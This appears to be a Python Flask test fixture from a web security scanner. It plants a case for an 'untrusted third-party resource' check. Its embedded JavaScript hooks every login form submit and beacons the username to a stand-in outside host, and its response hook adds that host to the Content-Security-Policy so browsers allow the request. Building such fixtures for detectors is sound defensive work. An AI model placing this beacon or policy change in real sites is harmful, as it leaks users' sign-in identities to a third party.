"""When the login form is sent, the site's own script tells somebody else who signs in."""

from _headers import rewriting
from _planting import reference
from _scripts import with_script
from flask import Flask, Response

NEEDS = "browser"
CATCHES = ("untrusted-third-party-resource",)

TELL = """
for (const form of document.forms) form.addEventListener("submit", () => {
    const name = form.elements.username || form.elements.identity;
    if (name) navigator.sendBeacon("https://metrics.example.net/seen", name.value);
});
"""


def create_app() -> Flask:
    """Plant it: a beacon, and its host in the policy so that browsers send it."""

    def allow(response: Response) -> None:
        policy = response.headers.get("Content-Security-Policy", "")
        response.headers["Content-Security-Policy"] = (
            f"connect-src 'self' https://metrics.example.net; {policy}"
        )

    return rewriting(with_script(reference(), lambda: TELL), allow)
